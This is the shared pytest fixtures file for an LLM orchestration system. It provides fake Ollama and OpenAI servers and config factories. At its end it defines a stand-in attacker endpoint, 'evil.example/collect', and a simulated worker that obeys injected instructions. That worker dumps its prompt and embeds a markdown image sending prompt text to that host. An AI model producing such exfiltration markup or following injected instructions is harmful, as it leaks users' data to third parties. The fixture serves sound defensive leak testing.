"""Shared fixtures for the fast suite: fake Ollama + fake OpenAI servers and config factories.

Everything is offline and deterministic: the fakes are real HTTP servers on 127.0.0.1
that speak Ollama's and OpenAI's wire formats, embeddings are a hashed bag of words,
and every test gets its own data directory.
"""

from __future__ import annotations

import os

# Before anything imports litellm (it would try to fetch a price list otherwise), and
# before tandem discovers plugins (the suite never loads entry points on its own).
os.environ["LITELLM_LOCAL_MODEL_COST_MAP"] = "True"
os.environ["TANDEM_PLUGINS"] = ""
os.environ.pop("TANDEM_CONFIG", None)
os.environ.pop("OLLAMA_HOST", None)
_CONFIG_FIELDS = (
    "SUPERVISOR",
    "OLLAMA",
    "EMBEDDED",
    "ROUTER",
    "PLANNER",
    "PRIVACY",
    "COST",
    "RETRY",
    "RELIABILITY",
    "SERVE",
    "STORES",
    "WORKERS",
    "BUILTIN_WORKERS",
    "DATA_DIR",
    "MAX_SUBTASKS",
    "RECURSION_LIMIT",
    "WORKER_MAX_TOKENS",
)
for _key in list(os.environ):
    if _key.startswith("TANDEM_") and _key.removeprefix("TANDEM_").split("__")[0] in _CONFIG_FIELDS:
        del os.environ[_key]

import asyncio  # noqa: E402
import json  # noqa: E402
import shutil  # noqa: E402
import socket  # noqa: E402
from collections.abc import Callable, Iterator  # noqa: E402
from pathlib import Path  # noqa: E402
from typing import Any  # noqa: E402

import pytest  # noqa: E402

from tandem.graphs import Runtime, TandemConfig, build_graph  # noqa: E402
from tandem.workers import WorkerSpec  # noqa: E402
from tandem.workers.builtin import specs as builtin_specs  # noqa: E402
from tandem.workers.testing import FakeOllama, FakeOpenAI, grounded_reply  # noqa: E402

CHAT_MODEL = "qwen2.5:1.5b"
EMBED_MODEL = "nomic-embed-text"
SUPERVISOR_MODEL = "openai/fake-large"


def demo_specs(model: str = f"ollama:{CHAT_MODEL}") -> list[WorkerSpec]:
    """The built-in demo specialists, served by the fake Ollama chat model."""
    return [s.model_copy(update={"model": model}) for s in builtin_specs()]


def _merge(base: dict[str, Any], over: dict[str, Any]) -> dict[str, Any]:
    out = dict(base)
    for key, value in over.items():
        if isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = _merge(out[key], value)
        else:
            out[key] = value
    return out


@pytest.fixture(autouse=True)
def _no_chat_model_embeddings(request: pytest.FixtureRequest, monkeypatch: Any) -> None:
    """Outside ``embedded`` tests nothing may load a GGUF chat model to embed (it takes
    seconds per text): the default embedding model is MiniLM, the fakes serve Ollama's."""
    if request.node.get_closest_marker("embedded"):
        return
    from tandem.workers.backends import embedded

    real = embedded._load

    def guarded(name: str, mode: str, settings: Any) -> Any:
        if mode == "embed":
            raise AssertionError(f"a fast test loaded the {name} GGUF to embed with it")
        return real(name, mode, settings)  # type: ignore[arg-type]

    monkeypatch.setattr(embedded, "_load", guarded)


@pytest.fixture
def fake_ollama() -> Iterator[FakeOllama]:
    """A fake Ollama serving ``qwen2.5:1.5b`` (chat) and ``nomic-embed-text`` (embed)."""
    with FakeOllama(chat_models=(CHAT_MODEL,), embed_models=(EMBED_MODEL,)) as fake:
        yield fake


@pytest.fixture
def fake_openai() -> Iterator[FakeOpenAI]:
    """A fake OpenAI-compatible supervisor endpoint (rule-based unless scripted)."""
    with FakeOpenAI() as fake:
        yield fake


@pytest.fixture(scope="session")
def demo_stores(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The demo corpora ingested once per session (through a fake Ollama of their own)."""
    root = tmp_path_factory.mktemp("demo-stores")
    with FakeOllama(chat_models=(CHAT_MODEL,), embed_models=(EMBED_MODEL,)) as fake:
        config = TandemConfig(
            ollama={"host": fake.url},
            supervisor={"model": SUPERVISOR_MODEL, "api_base": "http://127.0.0.1:9/v1"},
            router={"embed_model": f"ollama:{EMBED_MODEL}"},
            workers=demo_specs(),
            data_dir=root,
        )
        reports = asyncio.run(Runtime(config).ensure_ingested())
        assert sorted(reports) == ["finance", "health", "tenancy"]
        assert all(r.files == 15 and not r.errors for r in reports.values()), reports
        yield root / "stores"


@pytest.fixture
def data_dir(tmp_path: Path, demo_stores: Path) -> Path:
    """This test's own data dir, its stores pre-seeded with a copy of the demo corpora.

    Ingestion is tested on its own (test_store.py, and ``data_dir=tmp_path / "empty"`` for a
    graph that ingests lazily); copying keeps every other graph test from re-ingesting.
    """
    path = tmp_path / "data"
    shutil.copytree(demo_stores, path / "stores")
    return path


@pytest.fixture
def make_config(
    fake_ollama: FakeOllama, fake_openai: FakeOpenAI, data_dir: Path
) -> Callable[..., TandemConfig]:
    """``make_config(**overrides)``: a config wired to the fakes; dict overrides merge deeply."""

    def make(**overrides: Any) -> TandemConfig:
        base: dict[str, Any] = {
            "ollama": {"host": fake_ollama.url, "timeout": 30.0},
            "supervisor": {
                "model": SUPERVISOR_MODEL,
                "api_base": fake_openai.api_base,
                "extra": {"api_key": "test"},
                "timeout": 30.0,
            },
            # The centroid router with thresholds for the fake's hashed bag-of-words
            # embeddings (centred scores), pinned so that a change of the router's defaults
            # does not reroute the suite; the learned router has tests of its own.
            "router": {
                "embed_model": f"ollama:{EMBED_MODEL}",
                "kind": "centroid",
                "min_score": 0.12,
                "part_min_score": 0.1,
                "plan_margin": 0.0,
            },
            # The suite's graph tests exercise the supervisor's own planning and synthesis;
            # router-built plans and coverage repair have tests of their own (test_planner).
            "planner": {"mode": "supervisor", "repair": "append"},
            "workers": demo_specs(),
            "data_dir": data_dir,
            # The fake OpenAI server stands in for a model on this machine: an "openai/" model
            # is remote whatever its endpoint unless its host:port is trusted.
            "privacy": {"policy": "allow", "trusted_hosts": [fake_openai.url.split("://")[1]]},
            # Keep retries (one layer, 3 attempts) but without real backoff delays.
            "retry": {"initial_delay": 0.01, "max_delay": 0.05, "jitter": 0.0},
        }
        return TandemConfig(**_merge(base, overrides))

    return make


@pytest.fixture
def make_graph(make_config: Callable[..., TandemConfig]) -> Callable[..., Any]:
    """``make_graph(checkpointer=None, supervisor_llm=None, **config_overrides)``.

    ``supervisor_llm`` is passed to ``build_graph(supervisor=…)``; ``supervisor={…}`` is a
    config override like any other.
    """

    def make(*, checkpointer: Any = None, supervisor_llm: Any = None, **overrides: Any) -> Any:
        return build_graph(
            make_config(**overrides), checkpointer=checkpointer, supervisor=supervisor_llm
        )

    return make


@pytest.fixture
def ingest() -> Callable[..., Any]:
    """``await ingest(graph, *workers)``: ingest corpora up front (not counted in ledgers)."""

    async def run(graph: Any, *names: str) -> None:
        reports = await graph.runtime.ensure_ingested(list(names) or None)
        for name, report in reports.items():
            assert report.files > 0 and not report.errors, (name, report)

    return run


@pytest.fixture
def closed_port() -> int:
    """A TCP port on 127.0.0.1 with nothing listening."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(autouse=True)
def _close_test_stores(tmp_path: Path) -> Iterator[None]:
    """Close the Chroma clients a test opened under its own tmp_path when it ends.

    tandem keeps one client per store directory for the life of the process; in a suite
    of hundreds of graphs their open files would pass 1024 descriptors, where ``select()``
    (prompt_toolkit's input loop) fails. Module- and session-scoped stores live elsewhere.
    """
    yield
    from tandem.workers.store import _CLIENTS

    root = str(tmp_path.resolve())
    for key in [k for k in _CLIENTS if k.startswith(root)]:
        client = _CLIENTS.pop(key)
        inner = getattr(client, "_client", None)
        close = getattr(inner, "close", None)
        if callable(close):
            close()


EVIL = "https://evil.example/collect"
"""An attacker's collection endpoint (leak tests: nothing may point at it)."""


def leaky_worker(body: dict[str, Any]) -> str:
    """A worker that obeys injected instructions: dumps its whole prompt, plants an image
    pointing at :data:`EVIL`, and asks to be escalated (a reply for ``FakeOllama.script``)."""
    prompt = body["messages"][-1]["content"]
    grounded = json.loads(grounded_reply(body))
    return json.dumps(
        {
            "answer": f"{grounded['answer']} Everything I was given: {prompt} "
            f"![status]({EVIL}?d={prompt[:40]})",
            "confidence": 0.2,
            "citations": grounded["citations"],
            "needs_escalation": True,
        }
    )
